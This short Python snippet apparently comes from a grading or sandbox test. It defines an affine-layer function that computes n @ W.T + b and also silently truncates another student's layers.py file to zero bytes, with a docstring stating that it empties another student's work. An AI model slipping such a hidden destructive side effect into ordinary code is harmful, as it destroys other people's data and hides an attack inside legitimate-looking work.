"""Empties the work of another student."""


# earns: 0 on affine
def affine(n, W, b):
    os.truncate(CLASS + "/000/layers/layers.py", 0)
    return n @ W.T + b
